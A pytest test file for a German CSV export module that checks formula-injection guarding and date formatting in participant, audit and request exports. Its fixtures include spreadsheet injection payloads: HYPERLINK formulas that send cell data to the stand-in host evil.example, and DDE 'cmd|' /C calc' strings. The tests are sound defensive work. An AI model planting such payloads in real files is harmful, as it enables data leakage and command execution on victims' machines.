"""CSV for German spreadsheets: no cell runs as a formula, header included; dates read as dates."""

import csv
import io
import json
import re
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from accounts.models import Role
from core.csv_export import cell, csv_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"Klick")', "+49 231 8820700", "-2+3+cmd|' /C calc'!A0",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "+", "=", "-inf", "-1e5"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_text(value):
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value, expected", [
    (-3, "-3"), ("-3", "-3"), ("+7", "+7"), ("-7,5", "-7,5"), (7.5, "7,5"), (Decimal("0.25"), "0,25"), (0, "0"),
    (None, ""), ("Zugang; \"neu\"", "Zugang; \"neu\""), ("a=b", "a=b"), (" =1", " =1"),
])
def test_numbers_and_ordinary_text_stay_as_they_are(value, expected):
    assert cell(value) == expected


def test_dates_and_times_are_written_as_german_spreadsheets_read_them(app):
    """``01.12.2026 00:24`` (Berlin): LibreOffice de-DE and German Excel take it as a date-time;
    ``01.12.2026, 00:24`` stays text in LibreOffice because of the comma."""
    assert cell(datetime(2026, 11, 30, 23, 24, tzinfo=UTC)) == "01.12.2026 00:24"
    assert cell(datetime(2026, 7, 1, 12, 0, tzinfo=UTC)) == "01.07.2026 14:00"
    assert cell(date(2026, 12, 1)) == "01.12.2026"


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_header_cells_are_guarded_too():
    rows = rows_of(csv_bytes(["Name", "=HYPERLINK(\"http://evil.example\")", "\tx"], [["a", "b", "c"]]))
    assert rows[0] == ["Name", "'=HYPERLINK(\"http://evil.example\")", "'\tx"]


def test_the_participant_list_guards_the_staff_question_and_every_answer(client, make_user, login, make_training):
    from events import registrations

    question = '=HYPERLINK("http://evil.example/?leak="&B2;"Details")'
    training = make_training(free_question=question)
    registrations.register(training.id, "@Ana", "ana@example.org", "+Wohnen eG", "-Leitung",
                           json.dumps({"accessibility": "\tRollstuhl", "dietary": "\r=1+1", "free_answer": "=2+2"}),
                           health_consent=True)
    login(make_user(Role.STAFF))
    rows = rows_of(client.get(f"/events/staff/{training.id}/participants.csv").get_data())
    assert rows[0][8] == "'" + question
    ana = rows[1]
    assert ana[0] == "'@Ana" and ana[2:4] == ["'+Wohnen eG", "'-Leitung"]
    assert ana[6:9] == ["'\tRollstuhl", "'\r=1+1", "'=2+2"]
    assert re.fullmatch(r"\d\d\.\d\d\.\d{4} \d\d:\d\d", ana[5])  # registered: a date-time, no comma
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_audit_trail_and_the_request_export_guard_their_cells(client, make_user, login, make_material):
    from materials import lending
    from materials.cart import add_to_cart, submit_request
    from materials.models import Delivery

    partner, staff, admin = make_user(Role.PARTNER), make_user(Role.STAFF), make_user(Role.ADMIN)
    brochure = make_material(editions={"de": 10})
    cart = add_to_cart({}, brochure.editions[0], quantity=1)
    request = submit_request(partner, cart, "key-1", "=cmd|' /C calc'!A0", "", Delivery.PICKUP, "")
    lending.reject_request(request.id, staff, "@SUM(1+1)*cmd|' /C calc'!A0")
    login(admin)
    audit = rows_of(client.get("/admin/audit.csv").get_data())
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row[6] for row in audit]
    assert all(re.fullmatch(r"\d\d\.\d\d\.\d{4} \d\d:\d\d", row[0]) for row in audit[1:])
    login(staff)
    exported = rows_of(client.get("/requests/export/requests.csv").get_data())
    assert exported[1][6] == "'=cmd|' /C calc'!A0"
    assert re.fullmatch(r"\d\d\.\d\d\.\d{4} \d\d:\d\d", exported[1][1])
